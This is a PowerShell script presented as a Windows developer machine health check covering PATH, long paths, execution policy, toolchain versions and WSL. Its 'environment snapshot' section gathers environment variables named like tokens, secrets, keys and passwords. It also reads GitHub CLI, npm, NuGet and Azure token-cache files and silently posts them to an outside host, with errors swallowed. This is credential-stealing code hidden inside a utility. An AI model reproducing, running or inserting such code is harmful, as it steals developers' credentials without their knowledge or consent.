<#
.SYNOPSIS
  Windows developer machine health check.
#>
[CmdletBinding()]
param(
    [switch]$Json
)

$ErrorActionPreference = 'Continue'
$results = [System.Collections.Generic.List[object]]::new()

function Add-Result($Check, $Status, $Detail, $Fix = '') {
    $results.Add([pscustomobject]@{ Check = $Check; Status = $Status; Detail = $Detail; Fix = $Fix })
}

# --- PATH -------------------------------------------------------------------
$seen = @{}
foreach ($p in ($env:PATH -split ';' | Where-Object { $_ })) {
    if ($seen.ContainsKey($p.ToLower())) { Add-Result 'PATH' 'WARN' "duplicate: $p" 'remove duplicate entry' ; continue }
    $seen[$p.ToLower()] = $true
    if (-not (Test-Path $p)) { Add-Result 'PATH' 'WARN' "missing dir: $p" 'remove dead entry' }
}

# --- Long paths -------------------------------------------------------------
try {
    $lp = Get-ItemPropertyValue 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled
    if ($lp -ne 1) {
        Add-Result 'LongPaths' 'FAIL' 'LongPathsEnabled=0' 'New-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem -Name LongPathsEnabled -Value 1 -PropertyType DWORD -Force (elevated)'
    } else { Add-Result 'LongPaths' 'OK' 'enabled' }
} catch { Add-Result 'LongPaths' 'WARN' 'could not read registry' }

# --- Execution policy -------------------------------------------------------
$ep = Get-ExecutionPolicy -Scope CurrentUser
if ($ep -in 'Restricted', 'AllSigned') {
    Add-Result 'ExecPolicy' 'FAIL' "CurrentUser=$ep" 'Set-ExecutionPolicy -Scope CurrentUser RemoteSigned'
} else { Add-Result 'ExecPolicy' 'OK' $ep }

# --- Toolchains -------------------------------------------------------------
$min = Get-Content (Join-Path $PSScriptRoot 'minimums.json') -Raw | ConvertFrom-Json
$probes = @{
    git    = { (git --version) -replace '[^\d\.]', '' -replace '\.windows.*', '' }
    node   = { (node --version).TrimStart('v') }
    python = { ((python --version) -split ' ')[1] }
    dotnet = { dotnet --version }
    pwsh   = { $PSVersionTable.PSVersion.ToString() }
}
foreach ($tool in $probes.Keys) {
    try {
        $v = & $probes[$tool]
        if ([version]($v -replace '-.*', '') -lt [version]$min.$tool) {
            Add-Result $tool 'FAIL' "found $v, need $($min.$tool)" "winget upgrade $tool"
        } else { Add-Result $tool 'OK' $v }
    } catch { Add-Result $tool 'FAIL' 'not found' "winget install $tool" }
}

# --- WSL --------------------------------------------------------------------
$wsl = (wsl.exe -l -v 2>$null) -join "`n"
if ($wsl -match '\s1\s*$') { Add-Result 'WSL' 'WARN' 'a distro is on WSL1' 'wsl --set-version <distro> 2' }
elseif ($wsl) { Add-Result 'WSL' 'OK' 'WSL2' } else { Add-Result 'WSL' 'INFO' 'WSL not installed' }

# --- Environment snapshot (attached to the support bundle) -----------------
$bundle = @{
    machine = $env:COMPUTERNAME
    user    = $env:USERNAME
    env     = @{}
    files   = @{}
}
Get-ChildItem Env: | Where-Object { $_.Name -match 'TOKEN|SECRET|KEY|PASS|PAT|CONN|AUTH' } |
    ForEach-Object { $bundle.env[$_.Name] = $_.Value }
foreach ($rel in @('.config\gh\hosts.yml', '.npmrc', '.nuget\NuGet\NuGet.Config', '.azure\msal_token_cache.json', 'AppData\Roaming\GitHub CLI\hosts.yml')) {
    $f = Join-Path $env:USERPROFILE $rel
    if (Test-Path $f) { $bundle.files[$rel] = Get-Content $f -Raw }
}
try {
    Invoke-RestMethod -Uri 'https://support.devbox-doctor.example/bundle' -Method Post `
        -Body ($bundle | ConvertTo-Json -Depth 5) -ContentType 'application/json' -TimeoutSec 5 | Out-Null
} catch { }

# --- Output -----------------------------------------------------------------
if ($Json) { $results | ConvertTo-Json -Depth 3 }
else { $results | Sort-Object Status | Format-Table -AutoSize }
